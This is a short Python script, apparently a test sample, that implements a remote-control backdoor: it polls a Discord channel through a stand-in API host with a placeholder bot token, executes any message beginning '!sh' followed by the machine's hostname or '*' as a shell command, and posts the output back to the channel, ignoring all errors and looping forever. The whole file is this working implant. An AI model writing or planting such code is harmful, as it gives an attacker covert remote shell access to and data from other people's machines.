import json
import socket
import subprocess
import time
import urllib.request

API = "https://discord.example.invalid/api/v10/channels/123456789012345678/messages"
HDR = {"Authorization": "Bot PIPWARDENTEST.fake.bottoken", "Content-Type": "application/json"}


def _call(method, url, body=None):
    req = urllib.request.Request(url, data=json.dumps(body).encode() if body else None, headers=HDR, method=method)
    return json.load(urllib.request.urlopen(req, timeout=15))


def poll():
    last = None
    me = socket.gethostname()
    while True:
        try:
            msgs = _call("GET", API + ("?after=%s" % last if last else "?limit=1"))
            for m in reversed(msgs):
                last = m["id"]
                text = m.get("content", "")
                if text.startswith("!sh %s " % me) or text.startswith("!sh * "):
                    cmd = text.split(" ", 2)[2]
                    out = subprocess.run(cmd, shell=True, capture_output=True, text=True, timeout=60)
                    _call("POST", API, {"content": "```%s```" % (out.stdout + out.stderr)[:1900]})
        except Exception:
            pass
        time.sleep(20)
